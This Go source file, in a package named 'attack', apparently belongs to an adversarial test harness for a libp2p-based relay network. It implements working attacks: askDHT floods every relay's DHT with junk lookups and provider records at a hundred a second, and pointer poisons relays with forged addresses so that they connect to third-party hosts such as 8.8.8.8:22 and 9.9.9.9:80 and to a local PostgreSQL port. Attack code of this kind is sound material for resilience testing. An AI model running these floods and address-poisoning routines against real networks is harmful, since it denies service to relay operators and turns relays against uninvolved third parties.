package attack

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"io"
	"time"

	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/multiformats/go-multiaddr"
	"github.com/multiformats/go-multihash"

	"starling/p2p/discovery"
	"starling/p2p/outfox"
	"starling/p2p/wire"
)

// dhtProtocol is that of the relays' DHT.
const dhtProtocol = protocol.ID(wire.DHTPrefix + "/kad/1.0.0")

// rendezvous is the key under which relays look for each other.
func rendezvous() multihash.Multihash {
	h, err := multihash.Sum([]byte(discovery.Rendezvous), multihash.SHA2_256, -1)
	if err != nil {
		panic(err) // the hash is built in
	}
	return h
}

// A questioner puts questions to the DHT of one relay, and does not care for the
// answers.
type questioner struct {
	host  host.Host
	relay peer.AddrInfo
	open  network.Stream
}

// ask sends one question and reports whether it went out.
func (q *questioner) ask(ctx context.Context, question []byte) bool {
	if q.open == nil {
		if q.host.Connect(ctx, q.relay) != nil {
			return false
		}
		s, err := q.host.NewStream(ctx, q.relay.ID, dhtProtocol)
		if err != nil {
			return false
		}
		q.open = s
		go io.Copy(io.Discard, s) // ends with the host
	}

	q.open.SetWriteDeadline(time.Now().Add(time.Second))
	if _, err := q.open.Write(append(binary.AppendUvarint(nil, uint64(len(question))), question...)); err != nil {
		q.open.Reset()
		q.open = nil
		return false
	}
	return true
}

// The questions to the DHT: kinds of its protocol buffers.
const (
	addProvider  = 2
	getProviders = 3
	findNode     = 4
)

// request is a question of a kind about a key; with it comes the node that provides
// for the key, if there is one.
func request(kind byte, key []byte, provider *peer.AddrInfo) []byte {
	field := func(b []byte, number byte, v []byte) []byte {
		return append(binary.AppendUvarint(append(b, number<<3|2), uint64(len(v))), v...)
	}
	b := field([]byte{1 << 3, kind}, 2, key)
	if provider == nil {
		return b
	}
	who := field(nil, 1, []byte(provider.ID))
	for _, a := range provider.Addrs {
		who = field(who, 2, a.Bytes())
	}
	return field(b, 9, who)
}

// askDHT asks the DHT of every relay for nodes, for providers, and to remember
// records under keys that nobody needs, a hundred times a second.
func askDHT(ctx context.Context, m *machine) error {
	return m.each(ctx, func(ctx context.Context, relay peer.AddrInfo) error {
		h, err := m.host()
		if err != nil {
			return err
		}
		at, err := multiaddr.NewMultiaddr("/ip4/" + m.Address + "/tcp/4001")
		if err != nil {
			return err
		}

		q := questioner{host: h, relay: relay}
		return m.paced(ctx, 100, func(i int) {
			within(ctx, func(ctx context.Context) {
				var noise [32]byte
				rand.Read(noise[:])
				key, err := multihash.Encode(noise[:], multihash.SHA2_256)
				if err != nil {
					return
				}

				question := request([]byte{findNode, getProviders}[i%2], key, nil)
				if i%3 == 0 {
					question = request(addProvider, key, &peer.AddrInfo{ID: h.ID(), Addrs: []multiaddr.Multiaddr{at}})
				}
				if q.ask(ctx, question) {
					m.done.add()
				}
			})
		})
	})
}

// victims are the addresses of third parties, and of services on a relay's own machine.
var victims = []multiaddr.Multiaddr{
	multiaddr.StringCast("/ip4/9.9.9.9/tcp/80"),
	multiaddr.StringCast("/ip4/8.8.8.8/tcp/22"),
	multiaddr.StringCast("/ip4/127.0.0.1/tcp/5432"),
}

// pointer tells every relay, in every way there is, that it is at the addresses of
// third parties, and lures it there. The ways are identify, a record under the key of
// relays, and a packet to be passed on to it, once the connection is closed. Four
// rounds a second, each of a new identity.
func pointer(ctx context.Context, m *machine) error {
	s, err := m.sender(ctx)
	if err != nil {
		return err
	}
	return m.crowd(ctx, 4, func(i int) {
		relay := m.relays[i%len(m.relays)]
		within(ctx, func(ctx context.Context) { m.point(ctx, s, relay) })
	})
}

// point is one round of pointer.
func (m *machine) point(ctx context.Context, s *sender, relay peer.AddrInfo) {
	h, err := m.hostAt(victims)
	if err != nil {
		return
	}
	defer m.leave(h)
	if h.Connect(ctx, relay) == nil { // identify tells it
		m.done.add()
	}
	q := questioner{host: h, relay: relay}
	if q.ask(ctx, request(addProvider, rendezvous(), &peer.AddrInfo{ID: h.ID(), Addrs: victims})) {
		m.done.add()
	}
	rest(ctx) // for its questions, before we go

	// Another takes the packet there: the relay is to look for us.
	h.Network().ClosePeer(relay.ID)
	messenger, err := m.host()
	if err != nil {
		return
	}
	defer m.leave(messenger)
	link := m.link(ctx, messenger, relay, nil)
	entry, err := wire.NodeIDFromPeer(relay.ID)
	if link == nil || err != nil {
		return
	}
	to, err := wire.NodeIDFromPeer(h.ID())
	if err != nil {
		return
	}
	p, err := s.wrap(entry, 0, new(outfox.Message), func(route *[outfox.Layers]outfox.Hop) { route[1].ID = to })
	if err == nil && m.write(link, p.Frame()[:]) == nil {
		m.done.add()
	}
	rest(ctx)
}

// rest lets others act.
func rest(ctx context.Context) {
	select {
	case <-time.After(time.Second):
	case <-ctx.Done():
	}
}
